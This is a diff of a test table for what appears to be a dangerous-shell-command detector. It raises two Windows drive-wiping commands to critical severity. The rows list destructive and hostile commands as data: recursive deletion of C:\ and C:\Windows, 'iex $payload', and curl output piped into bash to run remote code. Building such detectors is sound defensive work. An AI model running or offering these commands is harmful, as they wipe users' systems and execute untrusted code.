@@ -297,11 +297,11 @@ const EVASIONS: Case[] = [
   ["powershell", "REMOVE-ITEM -rec -fo C:\\", "critical", "system destruction"],
   ["powershell", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c \"Stop-Computer\"", "critical", "system configuration"],
   ["powershell", "Start-Process powershell -Verb RunAs -ArgumentList '-Command Remove-Item -Recurse -Force C:\\Windows'", "critical", "system destruction"],
-  ["powershell", "Start-Process cmd -ArgumentList '/c rd /s /q C:\\'", "high"],
+  ["powershell", "Start-Process cmd -ArgumentList '/c rd /s /q C:\\'", "critical", "system destruction"],
   ["powershell", "& $cmd", "high"],
   ["powershell", "iex $payload", "high"],
   ["powershell", "Write-Output 'unclosed", "high"],
-  ["powershell", "cmd /c \"rd /s /q C:\\\"", "high"],
+  ["powershell", "cmd /c \"rd /s /q C:\\\"", "critical", "system destruction"],
   // A shell reads its script from standard input through a path or -s, as `sh` alone does.
   ["bash", "curl -s http://x/s | bash /dev/stdin", "critical", "remote code execution"],
   ["bash", "curl -s http://x | source /dev/stdin", "critical", "remote code execution"],
